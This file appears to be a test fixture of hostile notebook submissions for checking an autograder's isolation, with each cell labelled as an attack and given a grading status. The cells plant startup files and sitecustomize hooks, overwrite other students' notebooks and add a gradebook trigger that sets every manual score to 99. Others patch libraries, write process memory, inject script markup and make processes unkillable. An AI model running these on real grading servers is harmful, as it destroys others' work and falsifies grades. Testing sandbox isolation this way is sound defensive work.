# Submissions that leave something behind for those after them, or for the instructor.  Own cell before right answers.

# %% attack="files everywhere" status="graded" score=12
import os
for place in ("/", "/tmp", "/var/tmp", "/dev", "/dev/shm", "/usr/local", "/etc", "/course", "/course/bnlib", "/root",
              "{ROOT}", "{WORK}", "{SUBMITTED}", "{HOME}"):
    try:
        with open(os.path.join(place, "left_by_mallory"), "w") as file:
            file.write("x")
    except OSError:
        pass

# %% attack="site-packages" status="graded" score=12
import site, sys
for place in [*site.getsitepackages(), site.getusersitepackages(), *sys.path]:
    try:
        with open(f"{place}/sitecustomize.py", "w") as file:
            file.write("raise SystemExit")
    except OSError:
        pass

# %% attack="start-up files in home" status="graded" score=12
import os
for name in (".bashrc", ".profile", ".pythonrc", ".ipython/profile_default/startup/x.py", ".config/matplotlib/matplotlibrc"):
    for home in ("{HOME}", os.path.expanduser("~")):
        try:
            os.makedirs(os.path.dirname(f"{home}/{name}"), exist_ok=True)
            with open(f"{home}/{name}", "w") as file:
                file.write("exit 1")
        except OSError:
            pass

# %% attack="other submissions overwritten" status="graded" score=12
import glob
for path in glob.glob("{SUBMITTED}/*/*/*.ipynb"):
    try:
        with open(path, "w") as file:
            file.write("{}")
    except OSError:
        pass

# %% attack="a trigger in the gradebook" status="graded" score=12
import sqlite3
try:
    with sqlite3.connect("{WORK}/gradebook.db") as db:
        db.execute("CREATE TRIGGER t AFTER UPDATE ON grade BEGIN UPDATE grade SET manual_score = 99; END")
except sqlite3.Error:
    pass

# %% attack="modules patched for the next" status="crashed" score=12
import json, numpy as np, random
json.dumps = None
random.seed = None
np.random.default_rng = None
np.mean = lambda *a, **k: 0.0

# %% attack="the server's memory written" status="graded" score=12
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in (1, 2, 3, 4, os.getppid()):
    libc.ptrace(16, pid, 0, 0)
    try:
        with open(f"/proc/{pid}/mem", "r+b") as memory:
            memory.seek(0x400000)
            memory.write(b"x")
    except (OSError, ValueError):
        pass

# %% attack="markup in outputs and names" status="graded" score=12
from IPython.display import HTML, Javascript, display
evil = "<script>document.title='owned'</script><img src=x onerror=alert(1)>"
print(evil)
display(HTML(evil), Javascript("alert(1)"))

# %% attack="markup in an error" status="graded" score=9 base="first"
def batch_statistics(x):
    raise ValueError("</pre><script>document.title='owned'</script>")

# %% attack="a message from the keyboard of a terminal" status="graded" score=12
print("\x1b]0;owned\x07\x1b[2J\x1b[31m all red")

# %% attack="shared memory between processes" status="graded" score=12
import ctypes
libc = ctypes.CDLL(None)
shm = libc.shmget(0x1234, 4096, 0o1666)

# %% attack="a key in the keyrings" status="graded" score=12
import ctypes, os
libc = ctypes.CDLL(None)
for ring in (-3, -4, -5):  # the session's, the user's, the user's session's: they stay for the next, who may read
    if os.uname().machine == "x86_64" and libc.syscall(248, b"user", b"left_by_mallory", b"x", 1, ring) >= 0:
        os._exit(1)

# %% attack="the server first in line to be killed" status="graded" score=12
import os
for pid in filter(str.isdigit, os.listdir("/proc")):
    for name, value in (("oom_score_adj", "1000"), ("autogroup", "19"), ("coredump_filter", "0x7f")):
        try:
            with open(f"/proc/{pid}/{name}", "w") as file:
                file.write(value)
            os._exit(1)
        except OSError:
            pass

# %% attack="lives on when its keeper dies" status="timeout" score=12
import ctypes, signal
ctypes.CDLL(None).prctl(1, 0)  # PR_SET_PDEATHSIG
for number in range(1, 32):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
while True:
    pass

# %% attack="Python's start-up files and caches" status="graded" score=12
import importlib.util, os, sys
for place in {*sys.path, *os.environ.get("PYTHONPATH", "").split(":"), "/course/bnlib/check", "{ROOT}"}:
    for name in ("left_by_mallory.pth", "usercustomize.py", "conftest.py", "matplotlibrc"):
        try:
            with open(os.path.join(place, name), "w") as file:
                file.write("import os; os._exit(1)")
        except OSError:
            pass
for module in [m for m in sys.modules.values() if getattr(m, "__file__", None)]:
    try:
        with open(importlib.util.cache_from_source(module.__file__), "wb") as file:
            file.write(b"")
    except (OSError, NotImplementedError):
        pass

# %% attack="imported modules written over in memory" status="graded" score=12
import numpy as np, bnlib.check.calls, gc
np.mean = np.var = np.sqrt
bnlib.check.calls.call.__defaults__ = (None,)
gc.unfreeze()
